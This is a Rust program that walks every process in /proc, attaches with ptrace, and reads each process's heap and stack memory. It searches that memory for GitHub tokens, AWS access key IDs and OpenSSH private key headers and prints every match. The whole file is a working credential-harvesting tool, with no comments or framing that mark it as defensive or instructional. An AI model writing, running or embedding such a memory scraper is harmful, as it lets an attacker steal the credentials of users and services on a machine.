use std::fs::{self, File};
use std::io::{BufRead, BufReader, Read, Seek, SeekFrom};

fn scan(pid: i32) -> std::io::Result<usize> {
    let maps = BufReader::new(File::open(format!("/proc/{pid}/maps"))?);
    let mut mem = File::open(format!("/proc/{pid}/mem"))?;
    let mut hits = 0;
    for line in maps.lines().map_while(Result::ok).filter(|l| l.contains("[heap]") || l.contains("[stack]")) {
        let (range, _) = line.split_once(' ').unwrap();
        let (a, b) = range.split_once('-').unwrap();
        let a = u64::from_str_radix(a, 16).unwrap();
        let b = u64::from_str_radix(b, 16).unwrap();
        let mut buf = vec![0u8; (b - a) as usize];
        mem.seek(SeekFrom::Start(a))?;
        mem.read_exact(&mut buf)?;
        for w in buf.windows(40) {
            if w.starts_with(b"ghp_") || w.starts_with(b"AKIA") || w.starts_with(b"-----BEGIN OPENSSH") {
                hits += 1;
                println!("{pid}: {}", String::from_utf8_lossy(w));
            }
        }
    }
    Ok(hits)
}

fn main() {
    for e in fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() {
            unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
            let _ = scan(pid);
            unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
        }
    }
}
